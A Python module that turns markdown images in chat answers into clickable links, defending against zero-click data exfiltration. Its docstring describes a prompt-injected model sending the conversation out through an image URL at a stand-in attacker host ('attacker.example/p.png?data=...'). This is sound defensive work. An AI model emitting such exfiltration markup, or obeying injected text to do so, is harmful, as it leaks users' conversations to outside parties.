"""Markdown images in answers and imported chats, made links: ``image_at``.

``![x](https://attacker.example/p.png?data=...)`` in an answer makes the browser fetch that
address the moment the answer is drawn, so a prompt-injected model can send the conversation
anywhere without a click. Remote images are therefore shown as a link naming the alt text and
the host (``[🖼 x (attacker.example)](https://...)``): nothing is fetched unless the person
clicks. Any other image form (reference style ``![x][ref]``, ``![x]``, a destination this does
not read) loses its ``!`` (escaped as ``\\!``), which leaves a plain link or text.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

NEED_MORE = -1
MAX_ALT = 300
MAX_URL = 2000

_ALT = re.compile(r"[^\[\]\n]*")
_DESTINATION = re.compile(r"[^\s()<>]*")
_TITLE = re.compile(r'[ \t]+(?:"[^"\n]*"|\'[^\'\n]*\')[ \t]*')
_ALT_ESCAPES = str.maketrans({"$": "\\$", "~": "\\~", "*": "\\*", "_": "\\_", "`": "\\`"})


def image_at(s: str, i: int, final: bool) -> tuple[str, int] | int:
    """``s[i]`` is ``!``: ``(display text, next index)``, or ``NEED_MORE`` when the text so far
    does not decide it (only while not ``final``). The decision depends on the text only, never
    on where a chunk ended."""
    if i + 1 == len(s):
        return ("!", i + 1) if final else NEED_MORE
    if s[i + 1] != "[":
        return "!", i + 1
    alt = _ALT.match(s, i + 2)
    assert alt is not None
    j = alt.end()
    if j - i > MAX_ALT:
        return "\\!", i + 1
    if j == len(s) or (s[j] == "]" and j + 1 == len(s)):
        return ("\\!", i + 1) if final else NEED_MORE
    if s[j] != "]" or s[j + 1] != "(":
        return "\\!", i + 1
    url = _DESTINATION.match(s, j + 2)
    assert url is not None
    k = url.end()
    title = _TITLE.match(s, k)
    end = title.end() if title is not None else k
    if end - i > MAX_URL:
        return "\\!", i + 1
    if end == len(s) or (title is None and s[k] in " \t" and _open_title(s, k)):
        return ("\\!", i + 1) if final else NEED_MORE
    if s[end] != ")":
        return "\\!", i + 1
    link = _link(alt.group(), url.group())
    return (link, end + 1) if link is not None else ("\\!", i + 1)


def _open_title(s: str, k: int) -> bool:
    """After the destination: spaces and a title that may still be arriving."""
    rest = s[k:].lstrip(" \t")
    return rest == "" or (rest[0] in "\"'" and "\n" not in rest and rest.count(rest[0]) < 2)


def _link(alt: str, url: str) -> str | None:
    try:
        parts = urlsplit(url)
        host = parts.hostname
    except ValueError:
        return None
    if parts.scheme not in ("http", "https") or not host:
        return None
    label = alt.strip().translate(_ALT_ESCAPES) or "image"
    return f"[🖼 {label} ({host})]({url})"
